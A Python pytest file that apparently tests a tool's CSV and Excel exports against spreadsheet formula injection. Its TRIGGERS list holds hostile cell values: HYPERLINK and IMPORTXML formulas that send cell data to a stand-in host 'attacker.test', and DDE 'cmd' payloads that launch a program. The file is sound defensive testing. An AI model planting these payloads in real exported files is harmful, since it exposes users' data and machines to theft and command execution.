"""Twelve strings that spreadsheet programs take for formulas, in the lists that are downloaded: no cell of CSV or Excel is one."""

import csv
import io
from pathlib import Path

import openpyxl
import pytest
from click.testing import CliRunner

from tests import support
from ui.cli import main
from ui.spreadsheet import to_csv, to_xlsx

TRIGGERS = (
    '=HYPERLINK("http://attacker.test/?q="&A1,"see")',
    "=cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\0=1+1",
    " =1+1",
    "＝1+1",
    '=IMPORTXML("http://attacker.test/","//a")',
)
CODES = ("00100", "77295-26", "77336.0", "1E5", "3-5")
RISKY_CODES = ("+99417", "-25")
SPLITS = ("a;=1+1", "a\t=1+1", 'a"\n"=1+1', "a,=1+1")


def cells_of_csv(content: bytes, delimiter: str = ",") -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=delimiter) for cell in row]


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_cell_of_csv_is_a_formula_whatever_parts_its_cells(delimiter: str) -> None:
    content = to_csv(["Title"], [[text] for text in TRIGGERS + SPLITS])
    cells = cells_of_csv(content, delimiter)
    assert len(cells) == 1 + len(TRIGGERS + SPLITS)
    assert cells[1 : 1 + len(TRIGGERS)] == [f"'{text}" for text in TRIGGERS]


def test_every_cell_of_a_workbook_is_text() -> None:
    book = openpyxl.load_workbook(io.BytesIO(to_xlsx(["Title"], [[text] for text in TRIGGERS + CODES + RISKY_CODES], "Documents")))
    cells = [row[0] for row in book["Documents"].iter_rows(min_row=2)]
    assert {cell.data_type for cell in cells} == {"s"}
    assert [cell.value for cell in cells][len(TRIGGERS) :] == [*CODES, *RISKY_CODES]


def test_codes_come_back_as_they_were() -> None:
    assert cells_of_csv(to_csv(["Code"], [[code] for code in CODES])) == ["Code", *CODES]
    assert cells_of_csv(to_csv(["Code"], [[code] for code in RISKY_CODES]))[1:] == [f"'{code}" for code in RISKY_CODES]


def test_the_list_of_documents_holds_no_formula(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    quoted = [
        text.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t").replace("\r", "\\r").replace("\n", "\\n") for text in TRIGGERS
    ]
    told = [f'---\ntitle: "{text}"\npublisher: "{text}"\nauthority: forum\n---\n\n77336 rule {n}.\n' for n, text in enumerate(quoted)]
    support.bring(tmp_path / "data", {f"d{n}.md": text for n, text in enumerate(told) if "\0" not in text})
    monkeypatch.setenv("CODECITE_DATA_DIR", str(tmp_path / "data"))
    done = CliRunner().invoke(main, ["sources", "list", "--csv", str(tmp_path / "l.csv"), "--xlsx", str(tmp_path / "l.xlsx")])
    assert done.exit_code == 0, done.output
    cells = cells_of_csv((tmp_path / "l.csv").read_bytes())
    assert sum(cell.startswith("'") for cell in cells) >= 2 * (len(TRIGGERS) - 1)
    assert not [cell for cell in cells if cell.lstrip().startswith(("=", "+", "-", "@"))]
    sheet = openpyxl.load_workbook(tmp_path / "l.xlsx").active
    assert {cell.data_type for row in sheet.iter_rows() for cell in row if cell.value} == {"s"}
